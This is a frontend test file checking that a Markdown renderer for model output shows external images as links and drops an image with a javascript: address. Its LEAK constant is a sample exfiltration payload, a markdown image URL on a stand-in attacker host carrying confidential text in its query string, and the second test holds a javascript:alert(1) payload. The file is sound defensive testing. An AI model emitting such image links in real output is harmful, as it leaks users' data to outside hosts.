import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { Markdown } from './markdown';

const LEAK = '![chart](https://attacker.example/pixel.png?q=our%20runway%20is%204%20months)';

describe('remote images in model output', () => {
  it('chat and documents: an external image becomes a link, never an <img> the browser fetches', () => {
      const { container } = render(<Markdown content={`Here is the chart:\n\n${LEAK}`} />);
      expect(container.querySelector('img')).toBeNull();
      const link = screen.getByRole('link', { name: /chart/ });
      expect(link).toHaveAttribute('href', 'https://attacker.example/pixel.png?q=our%20runway%20is%204%20months');
      expect(link).toHaveAttribute('rel', expect.stringContaining('noreferrer'));
      expect(link.textContent).toMatch(/image: chart/i);
  });

  it('an image without a usable address is plain text', () => {
    const { container } = render(<Markdown content="![secret](javascript:alert(1))" />);
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('a')).toBeNull();
    expect(container.textContent).toContain('secret');
  });
});
